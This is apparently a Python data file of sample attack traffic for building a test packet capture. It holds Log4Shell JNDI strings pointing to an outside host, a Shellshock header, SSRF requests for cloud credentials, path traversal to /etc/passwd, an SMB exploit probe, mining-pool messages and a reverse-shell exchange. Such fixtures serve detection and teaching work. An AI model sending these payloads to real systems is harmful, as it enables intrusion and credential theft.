"""What attackers say, for attack.pcap: harmless copies of well-known first messages. Nothing here works on anything."""

from __future__ import annotations

# Name, server port, request, answer.
CONVERSATIONS: list[tuple[str, int, bytes, bytes]] = [
    (
        "log4shell (CVE-2021-44228)",
        8080,
        b"GET /login HTTP/1.1\r\nHost: app.internal\r\nUser-Agent: ${jndi:ldap://203.0.113.66:1389/a}\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
    ),
    (
        "log4shell, obfuscated",
        8080,
        b"GET /?q=${${lower:j}ndi:${lower:l}dap://203.0.113.66/x} HTTP/1.1\r\nHost: app.internal\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
    ),
    (
        "shellshock (CVE-2014-6271)",
        80,
        b"GET /cgi-bin/status HTTP/1.1\r\nHost: www.internal\r\nUser-Agent: () { :;}; /bin/bash -c 'id'\r\n\r\n",
        b"HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n",
    ),
    (
        "server-side request forgery for instance metadata",
        80,
        b"GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\n"
        b"Host: www.internal\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nweb-role",
    ),
    (
        "path traversal",
        80,
        b"GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: www.internal\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 32\r\n\r\nroot:x:0:0:root:/root:/bin/bash\n",
    ),
    (
        "path traversal, encoded",
        80,
        b"GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\r\nHost: www.internal\r\n\r\n",
        b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n",
    ),
    (
        "credentials in clear text",
        80,
        b"GET /admin HTTP/1.1\r\nHost: www.internal\r\nAuthorization: Basic YWRtaW46aHVudGVyMg==\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nadmin",
    ),
    ("credentials over FTP", 21, b"USER admin\r\nPASS hunter2\r\n", b"230 Login successful.\r\n"),
    (
        "mining pool (stratum)",
        3333,
        b'{"id":1,"method":"mining.subscribe","params":["xmrig/6.20.0"]}\n'
        b'{"id":2,"method":"mining.authorize","params":["wallet.worker","x"]}\n',
        b'{"id":1,"result":[[["mining.notify","ae68"]],"08000002",4],"error":null}\n',
    ),
    (
        "SMB 1 negotiation and trans2 (MS17-010)",
        445,
        b"\x00\x00\x00\x4e\xffSMB\x32\x00\x00\x00\x00\x18\x07\xc0" + bytes(12) + b"\x00\x08\xff\xfe\x00\x08\x41\x00"
        b"\x0f\x0c\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\xa6\xd9\xa4\x00\x00\x00\x0c\x00\x42\x00\x00\x00\x4e"
        b"\x00\x01\x00\x0e\x00\x0d\x00\x00" + bytes(12),
        b"\x00\x00\x00\x23\xffSMB\x32\x02\x00\x00\xc0\x98\x07\xc0" + bytes(12) + b"\x00\x08\xff\xfe\x00\x08\x41\x00"
        b"\x00\x00\x00",
    ),
    (
        "reverse shell",
        4444,
        b"bash: no job control in this shell\nroot@web:/# ",
        b"id\n",
    ),
]

# Flags of a port scan, each to a few ports.
SCANS: list[tuple[str, str, tuple[int, ...]]] = [
    (
        "SYN scan",
        "S",
        (21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1723, 3306, 3389, 5900, 8080),
    ),
    ("null scan", "", (22, 80, 443)),
    ("Xmas scan", "FPU", (22, 80, 443)),
    ("SYN+FIN scan", "SF", (22, 80, 443)),
]

# Echo data of a tunnel over ICMP: bytes each.
ICMP_TUNNEL = (1024, 1200, 1100)
